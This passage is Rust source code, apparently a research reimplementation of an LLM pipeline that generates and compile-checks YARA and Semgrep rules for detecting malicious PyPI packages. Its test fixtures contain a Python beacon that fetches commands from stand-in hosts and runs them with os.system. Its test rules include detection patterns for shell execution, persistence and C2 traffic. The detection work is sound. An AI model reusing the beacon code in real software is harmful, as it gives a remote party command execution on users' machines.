/// The 11 category names in Table XII order.
pub fn category_names() -> Vec<&'static str> {
    corpus_taxonomy().iter().map(|(c, _)| *c).collect()
}

/// The full taxonomy skeleton (same shape as Table XII).
fn corpus_taxonomy() -> &'static [(&'static str, &'static [&'static str])] {
    &[
        (
            "Metadata Related",
            &[
                "Package Metadata Manipulation",
                "Version Number Deception",
                "Fake Dependency Metadata",
                "Author Information Spoofing",
            ],
        ),
        (
            "Malicious Behavior",
            &[
                "Privilege Escalation",
                "Process Manipulation",
                "System Configuration Changes",
                "Persistence Mechanisms",
            ],
        ),
        (
            "Dependency Library",
            &[
                "System Library Abuse",
                "Network Library Misuse",
                "Crypto Library Exploitation",
                "UI/Graphics Library Abuse",
            ],
        ),
        (
            "Setup Code",
            &[
                "Malicious Setup Scripts",
                "Build Process Manipulation",
                "Installation Hook Abuse",
                "Configuration Tampering",
            ],
        ),
        (
            "Network Related",
            &[
                "C2 Communication",
                "Data Exfiltration Channels",
                "Malicious Downloads",
                "DNS/Protocol Abuse",
            ],
        ),
        (
            "Obfuscation & Anti-Detection",
            &[
                "Code Obfuscation",
                "Anti-Analysis Techniques",
                "Sandbox Evasion",
                "String/Pattern Hiding",
            ],
        ),
        (
            "Data Exfiltration",
            &[
                "Credential Theft",
                "Environment Data Stealing",
                "Configuration File Extraction",
                "Sensitive Data Harvesting",
            ],
        ),
        (
            "Code Execution",
            &[
                "Shell Command Execution",
                "Script Injection",
                "Process Creation",
            ],
        ),
        (
            "Application",
            &[
                "Messaging Platform Abuse",
                "Social Media API Exploitation",
                "Cloud Service Misuse",
                "Development Tool Abuse",
            ],
        ),
        (
            "Malware Family",
            &["Known Trojan Families", "Backdoor Families"],
        ),
        ("Other Rules", &["Unknown or Undetermined"]),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn taxonomy_shape_matches_table_xii() {
        assert_eq!(category_names().len(), 11);
        let rows = tabulate(std::iter::empty());
        assert_eq!(rows.len(), 38);
    }

    #[test]
    fn classify_c2_rule() {
        let rule = "rule r { strings: $a = \"requests.get\" $b = \"https://zorbex.xyz/tasks\" condition: all of them }";
        let labels = classify(rule);
        assert!(labels.contains(&("Network Related", "C2 Communication")));
    }

    #[test]
    fn classify_is_non_exclusive() {
        let rule = "rule r { strings: $a = \"base64.b64decode\" $b = \"os.system\" condition: all of them }";
        let labels = classify(rule);
        assert!(labels.contains(&("Obfuscation & Anti-Detection", "Code Obfuscation")));
        assert!(labels.contains(&("Code Execution", "Shell Command Execution")));
    }

    #[test]
    fn unknown_rule_lands_in_other() {
        let labels = classify("rule r { strings: $a = \"zzz\" condition: $a }");
        assert_eq!(labels, vec![("Other Rules", "Unknown or Undetermined")]);
    }

    #[test]
    fn metadata_rule_classified() {
        let rule = "rule r { strings: $a = \"Version: 0.0.0\" condition: $a }";
        let labels = classify(rule);
        assert!(labels.contains(&("Metadata Related", "Version Number Deception")));
    }

    #[test]
    fn tabulate_counts() {
        let rules = [
            "rule a { strings: $x = \"os.system\" condition: $x }",
            "rule b { strings: $x = \"os.system\" $y = \"crontab\" condition: all of them }",
        ];
        let rows = tabulate(rules.iter().copied());
        let shell = rows
            .iter()
            .find(|((_, s), _)| *s == "Shell Command Execution")
            .expect("row");
        assert_eq!(shell.1, 2);
        let persist = rows
            .iter()
            .find(|((_, s), _)| *s == "Persistence Mechanisms")
            .expect("row");
        assert_eq!(persist.1, 1);
    }

    #[test]
    fn overlap_matrix_is_symmetric_with_diagonal_totals() {
        let rules = [
            "rule a { strings: $x = \"os.system\" $y = \"b64decode\" condition: all of them }",
            "rule b { strings: $x = \"os.system\" condition: $x }",
        ];
        let m = overlap_matrix(rules.iter().copied());
        let cats = category_names();
        let exec = cats
            .iter()
            .position(|c| *c == "Code Execution")
            .expect("cat");
        let obf = cats
            .iter()
            .position(|c| *c == "Obfuscation & Anti-Detection")
            .expect("cat");
        assert_eq!(m[exec][exec], 2);
        assert_eq!(m[obf][obf], 1);
        assert_eq!(m[exec][obf], 1);
        assert_eq!(m[obf][exec], 1);
    }

    #[test]
    fn semgrep_rules_classify_too() {
        let yaml = "rules:\n  - id: x\n    pattern-either:\n      - pattern: subprocess.Popen(...)\n      - pattern: requests.post(...)\n";
        let labels = classify(yaml);
        assert!(labels.contains(&("Code Execution", "Process Creation")));
        assert!(labels.contains(&("Network Related", "Data Exfiltration Channels")));
    }
}

//! End-to-end orchestration of craft → refine → align (Fig. 3).

use std::collections::{HashMap, HashSet};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use llm_sim::{LlmSim, ModelProfile, Prompt, RuleFormat};
use oss_registry::Package;

use crate::align::align_rule;
use crate::extraction::extract_knowledge;

/// Pipeline configuration; the boolean knobs are the Table X ablation
/// arms.
#[derive(Debug, Clone)]
pub struct PipelineConfig {
    /// The LLM profile driving generation.
    pub model: ModelProfile,
    /// Master seed for unit sampling and LLM noise.
    pub seed: u64,
    /// Split code into basic units (§IV-A). Off = whole files go into the
    /// prompt and get truncated at the context window.
    pub use_basic_units: bool,
    /// Run the Table IV refinement step (§IV-B).
    pub use_refine: bool,
    /// Fix attempts for the alignment agent; 0 = compile once and drop
    /// failures (the no-alignment arm).
    pub max_fix_attempts: usize,
    /// K-Means cluster count; `None` = `max(1, n/4)`.
    pub cluster_k: Option<usize>,
    /// Similar units per crafting prompt (the paper uses two samples).
    pub units_per_prompt: usize,
    /// One YARA prompt per this many group members.
    pub yara_density: usize,
    /// One Semgrep prompt per this many group members.
    pub semgrep_density: usize,
    /// Generate metadata-based rules (§III-A / Table II metadata audits).
    pub generate_metadata_rules: bool,
    /// Ground every crafting analysis against the built-in security
    /// knowledge base (the §VI RAG extension; off in the paper's runs).
    pub use_rag: bool,
}

impl PipelineConfig {
    /// The full RuleLLM configuration (Table X row 4).
    pub fn full() -> Self {
        PipelineConfig {
            model: ModelProfile::gpt4o(),
            seed: 42,
            use_basic_units: true,
            use_refine: true,
            max_fix_attempts: 5,
            cluster_k: None,
            units_per_prompt: 2,
            yara_density: 4,
            semgrep_density: 6,
            generate_metadata_rules: true,
            use_rag: false,
        }
    }

    /// The §VI extension: the full pipeline with retrieval-augmented
    /// crafting.
    pub fn full_with_rag() -> Self {
        PipelineConfig {
            use_rag: true,
            ..PipelineConfig::full()
        }
    }

    /// Table X row 1: the LLM alone — whole files, no refinement, no
    /// alignment.
    pub fn llm_alone() -> Self {
        PipelineConfig {
            use_basic_units: false,
            use_refine: false,
            max_fix_attempts: 0,
            ..PipelineConfig::full()
        }
    }

    /// Table X row 2: LLM + rule alignment.
    pub fn llm_align() -> Self {
        PipelineConfig {
            use_basic_units: false,
            use_refine: false,
            ..PipelineConfig::full()
        }
    }

    /// Table X row 3: LLM + basic-unit rules + alignment.
    pub fn llm_units_align() -> Self {
        PipelineConfig {
            use_refine: false,
            ..PipelineConfig::full()
        }
    }

    /// Swaps the model profile (Table IX sweep).
    pub fn with_model(mut self, model: ModelProfile) -> Self {
        self.model = model;
        self
    }
}

/// One deployable generated rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeneratedRule {
    /// Full rule text (YARA source or Semgrep YAML).
    pub text: String,
    /// The rule format.
    pub format: RuleFormat,
    /// Indices (into the pipeline input) of the packages the rule was
    /// crafted from.
    pub provenance: Vec<usize>,
    /// Source group id, when crafted from a code group.
    pub group: Option<usize>,
}

/// Pipeline counters.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PipelineStats {
    /// Crafting prompts issued.
    pub crafted: usize,
    /// Refinement prompts issued.
    pub refined: usize,
    /// Rules that compiled (possibly after fixes).
    pub aligned_ok: usize,
    /// Rules dropped after exhausting fix attempts.
    pub dropped: usize,
    /// Total fix attempts across all rules.
    pub fix_attempts: usize,
    /// Total LLM completions served.
    pub llm_completions: u64,
}

/// The pipeline output: deployable rules plus counters.
#[derive(Debug, Clone)]
pub struct PipelineOutput {
    /// YARA rules.
    pub yara: Vec<GeneratedRule>,
    /// Semgrep rules.
    pub semgrep: Vec<GeneratedRule>,
    /// Counters.
    pub stats: PipelineStats,
}

impl PipelineOutput {
    /// Concatenated YARA ruleset source (names are made unique by the
    /// pipeline, so the result compiles as one file).
    pub fn yara_ruleset(&self) -> String {
        let mut out = String::new();
        for r in &self.yara {
            out.push_str(&r.text);
            if !r.text.ends_with('\n') {
                out.push('\n');
            }
            out.push('\n');
        }
        out
    }
}

/// The RuleLLM pipeline.
#[derive(Debug)]
pub struct Pipeline {
    config: PipelineConfig,
    llm: LlmSim,
    rng: StdRng,
}

impl Pipeline {
    /// Creates a pipeline from a configuration.
    pub fn new(config: PipelineConfig) -> Self {
        let mut llm = LlmSim::new(config.model.clone(), config.seed);
        if config.use_rag {
            llm = llm.with_knowledge_base(llm_sim::KnowledgeBase::security_default());
        }
        let rng = StdRng::seed_from_u64(config.seed.wrapping_mul(0x2545F4914F6CDD1D));
        Pipeline { config, llm, rng }
    }

    /// The active configuration.
    pub fn config(&self) -> &PipelineConfig {
        &self.config
    }

    /// Runs the full pipeline over `packages` (the deduplicated malware
    /// corpus in the paper's setting).
    pub fn run(&mut self, packages: &[&Package]) -> PipelineOutput {
        let knowledge = extract_knowledge(packages, self.config.cluster_k);
        let mut stats = PipelineStats::default();
        let mut yara = Vec::new();
        let mut semgrep = Vec::new();

        for (gid, group) in knowledge.groups.iter().enumerate() {
            let yara_prompts = (group.len() / self.config.yara_density).max(1);
            let semgrep_prompts = (group.len() / self.config.semgrep_density).max(1);
            for p in 0..yara_prompts {
                if let Some(rule) =
                    self.generate_one(&knowledge, group, gid, p, RuleFormat::Yara, &mut stats)
                {
                    yara.push(rule);
                }
            }
            for p in 0..semgrep_prompts {
                if let Some(rule) =
                    self.generate_one(&knowledge, group, gid, p, RuleFormat::Semgrep, &mut stats)
                {
                    semgrep.push(rule);
                }
            }
        }

        // §IV-A treats the package metadata as a basic unit, so
        // metadata-audit rules exist only in the basic-unit arms.
        if self.config.generate_metadata_rules && self.config.use_basic_units {
            self.metadata_rules(&knowledge, &mut stats, &mut yara);
        }

        dedup_and_uniquify(&mut yara, RuleFormat::Yara);
        dedup_and_uniquify(&mut semgrep, RuleFormat::Semgrep);
        stats.llm_completions = self.llm.completions;
        PipelineOutput {
            yara,
            semgrep,
            stats,
        }
    }

    /// One craft → refine → align round over sampled units of a group.
    fn generate_one(
        &mut self,
        knowledge: &crate::extraction::PackageGroups,
        group: &[usize],
        gid: usize,
        round: usize,
        format: RuleFormat,
        stats: &mut PipelineStats,
    ) -> Option<GeneratedRule> {
        // Sample `units_per_prompt` members, offset by round so different
        // prompts see different parts of the group.
        let mut members = Vec::new();
        for i in 0..self.config.units_per_prompt.min(group.len()).max(1) {
            let pick = group[(round * 2 + i + self.rng.gen_range(0..group.len())) % group.len()];
            members.push(pick);
        }
        let mut inputs = Vec::new();
        for &m in &members {
            let e = &knowledge.packages[m];
            if self.config.use_basic_units {
                if e.units.is_empty() {
                    continue;
                }
                // Table II audit ranking: successive rounds rotate through
                // the most suspicious units so each prompt covers a
                // different malicious place of the package.
                let ranked = e.ranked_units();
                let suspicious: Vec<usize> = ranked
                    .iter()
                    .copied()
                    .filter(|&i| e.unit_scores[i] > 0)
                    .collect();
                let pick = if suspicious.is_empty() {
                    ranked[round % ranked.len()]
                } else {
                    suspicious[round % suspicious.len()]
                };
                inputs.push(e.units[pick].code.clone());
            } else {
                inputs.push(e.code.clone());
            }
        }
        if inputs.is_empty() {
            return None;
        }
        let prompt = Prompt::craft(format, &inputs, None);
        stats.crafted += 1;
        let reply = self.llm.complete(&prompt);
        let (analysis, mut rule) = llm_sim::split_reply(&reply);
        if rule.contains("__no_indicators_extracted__") || rule.contains("__no_pattern_extracted__")
        {
            return None;
        }
        if self.config.use_refine {
            let refine_prompt = Prompt::refine(format, &analysis, &rule);
            stats.refined += 1;
            let refined_reply = self.llm.complete(&refine_prompt);
            let (_, refined) = llm_sim::split_reply(&refined_reply);
            rule = refined;
        }
        let outcome = align_rule(
            &mut self.llm,
            format,
            &analysis,
            rule,
            self.config.max_fix_attempts,
        );
        stats.fix_attempts += outcome.attempts;
        match outcome.rule {
            Some(text) => {
                stats.aligned_ok += 1;
                let provenance: Vec<usize> = members
                    .iter()
                    .map(|&m| knowledge.packages[m].index)
                    .collect();
                Some(GeneratedRule {
                    text,
                    format,
                    provenance,
                    group: Some(gid),
                })
            }
            None => {
                stats.dropped += 1;
                None
            }
        }
    }

    /// Metadata-audit rules: packages sharing a metadata red-flag profile
    /// get one broad rule (the paper's "fake version" rule detects 568
    /// packages).
    fn metadata_rules(
        &mut self,
        knowledge: &crate::extraction::PackageGroups,
        stats: &mut PipelineStats,
        yara: &mut Vec<GeneratedRule>,
    ) {
        let mut by_profile: HashMap<Vec<String>, Vec<usize>> = HashMap::new();
        for (i, e) in knowledge.packages.iter().enumerate() {
            let audit = llm_sim::analyze_metadata(&e.metadata_json);
            if audit.indicators.is_empty() {
                continue;
            }
            // Profile = the *shape* of the red flags (field names), not
            // the concrete values, so variants share a profile.
            let mut profile: Vec<String> = audit
                .indicators
                .iter()
                .map(|ind| ind.text.split(':').next().unwrap_or("flag").to_owned())
                .collect();
            profile.sort();
            profile.dedup();
            by_profile.entry(profile).or_default().push(i);
        }
        // Deterministic processing order (HashMap iteration is not).
        let mut profiles: Vec<(Vec<String>, Vec<usize>)> = by_profile.into_iter().collect();
        profiles.sort();
        for (_, members) in profiles {
            let sample = members[0];
            let e = &knowledge.packages[sample];
            let prompt = Prompt::craft(
                RuleFormat::Yara,
                &[String::new()],
                Some(e.metadata_json.clone()),
            );
            stats.crafted += 1;
            let reply = self.llm.complete(&prompt);
            let (analysis, rule) = llm_sim::split_reply(&reply);
            if rule.contains("__no_indicators_extracted__") {
                continue;
            }
            let outcome = align_rule(
                &mut self.llm,
                RuleFormat::Yara,
                &analysis,
                rule,
                self.config.max_fix_attempts,
            );
            stats.fix_attempts += outcome.attempts;
            match outcome.rule {
                Some(text) => {
                    stats.aligned_ok += 1;
                    yara.push(GeneratedRule {
                        text,
                        format: RuleFormat::Yara,
                        provenance: members
                            .iter()
                            .map(|&m| knowledge.packages[m].index)
                            .collect(),
                        group: None,
                    });
                }
                None => stats.dropped += 1,
            }
        }
    }
}

/// Extracts the YARA rule name or Semgrep id from rule text.
fn rule_identifier(text: &str, format: RuleFormat) -> Option<String> {
    match format {
        RuleFormat::Yara => text
            .split_whitespace()
            .skip_while(|w| *w != "rule")
            .nth(1)
            .map(|n| n.trim_end_matches('{').to_owned()),
        RuleFormat::Semgrep => text
            .lines()
            .find_map(|l| l.trim().trim_start_matches("- ").strip_prefix("id:"))
            .map(|s| s.trim().to_owned()),
    }
}

/// Drops exact duplicates and renames identifier collisions so the whole
/// set deploys as one ruleset.
fn dedup_and_uniquify(rules: &mut Vec<GeneratedRule>, format: RuleFormat) {
    let mut seen_text = HashSet::new();
    rules.retain(|r| seen_text.insert(digest::fnv1a(r.text.as_bytes())));
    let mut used: HashMap<String, usize> = HashMap::new();
    for r in rules.iter_mut() {
        let Some(id) = rule_identifier(&r.text, format) else {
            continue;
        };
        let n = used.entry(id.clone()).or_insert(0);
        *n += 1;
        if *n > 1 {
            let new_id = format!("{id}_v{n}");
            match format {
                RuleFormat::Yara => {
                    r.text = r.text.replacen(&id, &new_id, 1);
                }
                RuleFormat::Semgrep => {
                    r.text = r
                        .text
                        .replacen(&format!("id: {id}"), &format!("id: {new_id}"), 1);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};

    fn beacon_pkg(name: &str, host: &str) -> Package {
        Package::new(
            PackageMetadata::new(name, "0.0.0"),
            vec![SourceFile::new(
                format!("{name}/__init__.py"),
                format!(
                    "import os, requests\n\ndef beacon():\n    cmd = requests.get('https://{host}/tasks').text\n    os.system(cmd)\n"
                ),
            )],
            Ecosystem::PyPi,
        )
    }

    fn small_fleet() -> Vec<Package> {
        vec![
            beacon_pkg("pkga", "one.xyz"),
            beacon_pkg("pkgb", "two.top"),
            beacon_pkg("pkgc", "three.icu"),
            beacon_pkg("pkgd", "four.site"),
        ]
    }

    #[test]
    fn full_pipeline_produces_compiling_rules() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        assert!(!out.yara.is_empty(), "stats: {:?}", out.stats);
        // Every emitted rule compiles, and the whole set compiles as one
        // file (unique names).
        assert!(yara_engine::compile(&out.yara_ruleset()).is_ok());
        for r in &out.semgrep {
            assert!(semgrep_engine::compile(&r.text).is_ok(), "{}", r.text);
        }
    }

    #[test]
    fn generated_rules_match_unseen_variant() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        let compiled = yara_engine::compile(&out.yara_ruleset()).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let unseen = beacon_pkg("pkge", "five.online");
        let mut buffer = unseen.combined_source();
        buffer.push_str(&oss_registry::render_pkg_info(unseen.metadata()));
        assert!(scanner.is_match(buffer.as_bytes()));
    }

    #[test]
    fn stats_are_consistent() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        assert!(out.stats.crafted >= out.stats.aligned_ok);
        assert_eq!(out.stats.aligned_ok, out.yara.len() + out.semgrep.len(),);
        assert!(out.stats.llm_completions > 0);
    }

    #[test]
    fn ablation_configs_differ() {
        let alone = PipelineConfig::llm_alone();
        assert!(!alone.use_basic_units && !alone.use_refine && alone.max_fix_attempts == 0);
        let align = PipelineConfig::llm_align();
        assert!(align.max_fix_attempts == 5 && !align.use_refine);
        let units = PipelineConfig::llm_units_align();
        assert!(units.use_basic_units && !units.use_refine);
        let full = PipelineConfig::full();
        assert!(full.use_basic_units && full.use_refine && full.max_fix_attempts == 5);
    }

    #[test]
    fn deterministic_output() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let a = Pipeline::new(PipelineConfig::full()).run(&refs);
        let b = Pipeline::new(PipelineConfig::full()).run(&refs);
        assert_eq!(a.yara.len(), b.yara.len());
        for (x, y) in a.yara.iter().zip(&b.yara) {
            assert_eq!(x.text, y.text);
        }
    }

    #[test]
    fn metadata_rules_generated_for_flagged_packages() {
        let fleet = small_fleet(); // version 0.0.0 everywhere
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        assert!(
            out.yara.iter().any(|r| r.text.contains("0.0.0")),
            "no metadata rule keyed on the zero version"
        );
    }

    #[test]
    fn metadata_rules_can_be_disabled() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut cfg = PipelineConfig::full();
        cfg.generate_metadata_rules = false;
        let out = Pipeline::new(cfg).run(&refs);
        assert!(out.yara.iter().all(|r| r.group.is_some()));
    }

    #[test]
    fn provenance_points_into_input() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let out = Pipeline::new(PipelineConfig::full()).run(&refs);
        for r in out.yara.iter().chain(&out.semgrep) {
            assert!(!r.provenance.is_empty());
            assert!(r.provenance.iter().all(|&i| i < fleet.len()));
        }
    }

    #[test]
    fn empty_input_produces_no_rules() {
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&[]);
        assert!(out.yara.is_empty());
        assert!(out.semgrep.is_empty());
    }

    #[test]
    fn uniquify_renames_collisions() {
        let mut rules = vec![
            GeneratedRule {
                text: "rule same { condition: true }".into(),
                format: RuleFormat::Yara,
                provenance: vec![0],
                group: None,
            },
            GeneratedRule {
                text: "rule same { condition: false }".into(),
                format: RuleFormat::Yara,
                provenance: vec![1],
                group: None,
            },
        ];
        dedup_and_uniquify(&mut rules, RuleFormat::Yara);
        assert_eq!(rules.len(), 2);
        assert!(rules[1].text.contains("same_v2"));
    }
}

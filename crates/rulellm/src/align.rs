//! The alignment agent (§IV-C, Fig. 4).
//!
//! The agent owns two tools — the YARA compiler and the Semgrep compiler
//! — and a short-term memory holding the **two most recent** compiler
//! error messages (the paper caps memory growth exactly this way). A rule
//! that fails to compile is sent back through a Table V fix prompt with
//! the remembered errors as the agent's observation, up to five times.

use llm_sim::{LlmSim, Prompt, RuleFormat};

/// Result of aligning one rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AlignOutcome {
    /// The compiling rule, or `None` when all attempts failed.
    pub rule: Option<String>,
    /// Fix attempts consumed (0 = compiled first try).
    pub attempts: usize,
    /// Every compiler error observed, in order.
    pub errors: Vec<String>,
}

/// Compiles `rule` with the format's real compiler; the agent's tool
/// interface.
pub fn compile_rule(format: RuleFormat, rule: &str) -> Result<(), String> {
    match format {
        RuleFormat::Yara => yara_engine::compile(rule)
            .map(|_| ())
            .map_err(|e| e.to_string()),
        RuleFormat::Semgrep => semgrep_engine::compile(rule)
            .map(|_| ())
            .map_err(|e| e.to_string()),
    }
}

/// Runs the agent loop on one rule.
///
/// `max_attempts = 0` degenerates to "compile once, drop on failure" —
/// the no-alignment ablation arm.
pub fn align_rule(
    llm: &mut LlmSim,
    format: RuleFormat,
    analysis: &str,
    mut rule: String,
    max_attempts: usize,
) -> AlignOutcome {
    let mut errors: Vec<String> = Vec::new();
    for attempt in 0..=max_attempts {
        match compile_rule(format, &rule) {
            Ok(()) => {
                return AlignOutcome {
                    rule: Some(rule),
                    attempts: attempt,
                    errors,
                }
            }
            Err(err) => {
                errors.push(err);
                if attempt == max_attempts {
                    break;
                }
                // Memory: only the two most recent errors reach the prompt.
                let window = if errors.len() > 2 {
                    &errors[errors.len() - 2..]
                } else {
                    &errors[..]
                };
                let observation = window.join("\n");
                let prompt = Prompt::fix(format, analysis, &rule, &observation);
                let reply = llm.complete(&prompt);
                let (_, fixed) = llm_sim::split_reply(&reply);
                rule = fixed;
            }
        }
    }
    AlignOutcome {
        rule: None,
        attempts: max_attempts,
        errors,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use llm_sim::ModelProfile;

    fn perfect_fixer() -> LlmSim {
        let profile = ModelProfile {
            name: "test-aligner",
            context_tokens: 32_000,
            feature_miss_rate: 0.0,
            overgeneral_rate: 0.0,
            hallucination_rate: 0.0,
            // No fresh corruption from the fix handler path.
            syntax_error_rate: 0.0,
            fix_skill: 1.0,
            merge_skill: 1.0,
        };
        LlmSim::new(profile, 11)
    }

    fn hopeless_fixer() -> LlmSim {
        let profile = ModelProfile {
            name: "test-hopeless",
            context_tokens: 32_000,
            feature_miss_rate: 0.0,
            overgeneral_rate: 0.0,
            hallucination_rate: 0.0,
            syntax_error_rate: 0.0,
            fix_skill: 0.0,
            merge_skill: 1.0,
        };
        LlmSim::new(profile, 12)
    }

    const ANALYSIS: &str = "summary: beacon\nindicator [Network Activity]: requests.get\n";

    #[test]
    fn valid_rule_passes_untouched() {
        let mut llm = perfect_fixer();
        let rule = "rule ok { strings: $a = \"requests.get\" condition: $a }".to_owned();
        let out = align_rule(&mut llm, RuleFormat::Yara, ANALYSIS, rule.clone(), 5);
        assert_eq!(out.rule.as_deref(), Some(rule.as_str()));
        assert_eq!(out.attempts, 0);
        assert!(out.errors.is_empty());
    }

    #[test]
    fn broken_rule_gets_repaired() {
        let mut llm = perfect_fixer();
        let rule =
            "rule broken { strings: $a = \"requests.get\" condition: $a and $ghost }".to_owned();
        let out = align_rule(&mut llm, RuleFormat::Yara, ANALYSIS, rule, 5);
        let fixed = out.rule.expect("repaired");
        assert!(yara_engine::compile(&fixed).is_ok());
        assert!(out.attempts >= 1);
        assert!(out.errors[0].contains("undefined string"));
    }

    #[test]
    fn hopeless_model_exhausts_attempts() {
        let mut llm = hopeless_fixer();
        let rule = "rule broken { strings: $a = \"x condition: $a }".to_owned();
        let out = align_rule(&mut llm, RuleFormat::Yara, ANALYSIS, rule, 5);
        assert!(out.rule.is_none());
        assert_eq!(out.attempts, 5);
        assert_eq!(out.errors.len(), 6); // initial compile + 5 retries
    }

    #[test]
    fn zero_attempts_is_compile_only() {
        let mut llm = perfect_fixer();
        let rule = "rule broken { strings: $a = \"x condition: $a }".to_owned();
        let out = align_rule(&mut llm, RuleFormat::Yara, ANALYSIS, rule, 0);
        assert!(out.rule.is_none());
        assert_eq!(out.errors.len(), 1);
        assert_eq!(llm.completions, 0, "no fix prompt may be sent");
    }

    #[test]
    fn semgrep_rules_align_too() {
        let mut llm = perfect_fixer();
        let broken =
            "rules:\n  - id: x\n    languages: [python]\n    pattern: os.system(...)\n".to_owned(); // missing message
        let out = align_rule(&mut llm, RuleFormat::Semgrep, "summary: shell\n", broken, 5);
        let fixed = out.rule.expect("repaired");
        assert!(semgrep_engine::compile(&fixed).is_ok(), "{fixed}");
    }

    #[test]
    fn memory_window_is_two_errors() {
        // Indirect check: the loop runs and records all errors even though
        // only two reach each prompt; with a hopeless fixer the same error
        // repeats.
        let mut llm = hopeless_fixer();
        let rule = "rule b { strings: $a = \"x condition: $a }".to_owned();
        let out = align_rule(&mut llm, RuleFormat::Yara, ANALYSIS, rule, 3);
        assert_eq!(out.errors.len(), 4);
        assert!(out.errors.windows(2).all(|w| w[0] == w[1]));
    }
}

//! Basic-unit extraction (§IV-A).
//!
//! A basic unit is a self-contained code block: a module fragment, a
//! function body or a class definition. The paper's extraction procedure:
//! (1) use regex to find lines beginning with `def `, `class `, `if `,
//! `for `, `while `, `try:`, `with `; (2) accumulate following lines into
//! the unit; (3) close the unit at the next boundary; (4) split units
//! larger than 4,000 characters.

use textmatch::Regex;

/// The paper's 4,000-character unit cap (§IV-A step 4).
pub const MAX_UNIT_CHARS: usize = 4000;

/// One extracted basic unit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BasicUnit {
    /// The code block text.
    pub code: String,
    /// 1-based first line in the original source.
    pub start_line: usize,
}

/// Splits Python source into basic units per §IV-A.
///
/// Top-level statements before the first block boundary form a leading
/// module unit. Indented continuation lines stay with their block.
pub fn split_basic_units(source: &str) -> Vec<BasicUnit> {
    // The paper's boundary regex: block-opening keywords at column zero
    // (top-level blocks) or decorators introducing them.
    let boundary =
        Regex::new(r"^(def |class |if |for |while |try:|with |@)").expect("static pattern");
    let lines: Vec<&str> = source.lines().collect();
    let mut units = Vec::new();
    let mut current = String::new();
    let mut current_start = 1usize;
    for (i, line) in lines.iter().enumerate() {
        let is_boundary = boundary.find(line.as_bytes()).is_some_and(|m| m.start == 0);
        // A `def`/`class` immediately following decorator lines belongs to
        // the same unit as its decorators.
        let decorator_continuation = (line.starts_with("def ") || line.starts_with("class "))
            && !current.trim().is_empty()
            && current
                .lines()
                .all(|l| l.trim().is_empty() || l.starts_with('@'));
        if is_boundary && !decorator_continuation && !current.trim().is_empty() {
            push_unit(&mut units, &current, current_start);
            current = String::new();
            current_start = i + 1;
        }
        if current.is_empty() {
            current_start = i + 1;
        }
        current.push_str(line);
        current.push('\n');
    }
    if !current.trim().is_empty() {
        push_unit(&mut units, &current, current_start);
    }
    units
}

/// Pushes a unit, splitting blocks that exceed [`MAX_UNIT_CHARS`].
fn push_unit(units: &mut Vec<BasicUnit>, code: &str, start_line: usize) {
    if code.len() <= MAX_UNIT_CHARS {
        units.push(BasicUnit {
            code: code.to_owned(),
            start_line,
        });
        return;
    }
    // Oversized block: split at line boundaries below the cap.
    let mut piece = String::new();
    let mut piece_start = start_line;
    for (offset, line) in code.lines().enumerate() {
        let line_no = start_line + offset;
        if piece.len() + line.len() + 1 > MAX_UNIT_CHARS && !piece.is_empty() {
            units.push(BasicUnit {
                code: piece.clone(),
                start_line: piece_start,
            });
            piece.clear();
            piece_start = line_no;
        }
        piece.push_str(line);
        piece.push('\n');
    }
    if !piece.trim().is_empty() {
        units.push(BasicUnit {
            code: piece,
            start_line: piece_start,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_at_function_boundaries() {
        let src = "import os\n\ndef a():\n    pass\n\ndef b():\n    pass\n";
        let units = split_basic_units(src);
        assert_eq!(units.len(), 3); // module header, a, b
        assert!(units[1].code.starts_with("def a"));
        assert!(units[2].code.starts_with("def b"));
    }

    #[test]
    fn class_with_methods_is_one_unit() {
        let src = "class C:\n    def m1(self):\n        pass\n    def m2(self):\n        pass\n";
        let units = split_basic_units(src);
        assert_eq!(units.len(), 1);
        assert!(units[0].code.contains("m2"));
    }

    #[test]
    fn top_level_if_starts_unit() {
        let src = "x = 1\nif x:\n    boom()\n";
        let units = split_basic_units(src);
        assert_eq!(units.len(), 2);
        assert!(units[1].code.starts_with("if x:"));
    }

    #[test]
    fn try_block_starts_unit() {
        let src = "import sys\ntry:\n    risky()\nexcept Exception:\n    pass\n";
        let units = split_basic_units(src);
        assert_eq!(units.len(), 2);
        assert!(units[1].code.starts_with("try:"));
    }

    #[test]
    fn decorator_stays_with_function() {
        let src = "import atexit\n@atexit.register\ndef boom():\n    pass\n";
        let units = split_basic_units(src);
        assert_eq!(units.len(), 2);
        assert!(units[1].code.starts_with("@atexit.register"));
        assert!(units[1].code.contains("def boom"));
    }

    #[test]
    fn start_lines_tracked() {
        let src = "import os\n\ndef f():\n    pass\n";
        let units = split_basic_units(src);
        assert_eq!(units[0].start_line, 1);
        assert_eq!(units[1].start_line, 3);
    }

    #[test]
    fn oversized_unit_is_split() {
        let mut src = String::from("def huge():\n");
        for i in 0..400 {
            src.push_str(&format!(
                "    value_{i} = 'padding data for the unit splitter'\n"
            ));
        }
        let units = split_basic_units(&src);
        assert!(units.len() > 1);
